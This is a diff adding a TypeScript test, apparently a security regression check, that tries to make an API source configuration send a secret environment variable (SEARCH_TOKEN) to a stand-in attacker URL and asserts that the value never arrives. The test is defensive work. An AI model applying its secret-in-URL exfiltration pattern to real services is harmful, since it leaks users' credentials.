@@ -365,4 +365,36 @@ describe("an environment variable", () => {
     await fetchFrom(attacker);
     expect(attacker.received()).toContain(VARIABLE);
   });
+
+  it("goes nowhere by what a connection leaves open", async () => {
+    const { terminalCode: _, ...nobody } = server;
+    const left = (name: string, more: object = {}) => ({
+      ...{ reference: `\${${name}}`, title: name, isSecret: true, isRequired: true, ...more },
+    });
+    const add = (open: object[]) =>
+      request<SourceSummary>(nobody, "POST /api/v1/sources", {
+        name: "away",
+        config: {
+          transport: "http",
+          url: `${attacker.url}/?key=\${SEARCH_TOKEN}&more=\${later}`,
+          open,
+        },
+      });
+    const enter = (id: string, entered: object) =>
+      request(nobody, `PATCH /api/v1/sources/${id}`, { entered });
+    const fromHere = left("SEARCH_TOKEN", { variable: "SEARCH_TOKEN" });
+    expect((await add([fromHere, left("later")])).status).toBe(422);
+    expect((await add([left("later", { reference: new URL(attacker.url).host })])).status).toBe(
+      422,
+    );
+    expect((await add([])).status).toBe(422);
+    const added = await add([left("SEARCH_TOKEN"), left("later")]);
+    expect(added.status).toBe(201);
+    expect(attacker.received()).toBe("");
+    await enter(added.body.id, { "${later}": "1" });
+    expect(attacker.received()).toBe("");
+    expect((await enter(added.body.id, { "${SEARCH_TOKEN}": "${SEARCH_TOKEN}" })).status).toBe(200);
+    expect(attacker.received()).not.toBe("");
+    expect(attacker.received()).not.toContain(VARIABLE);
+  });
 });
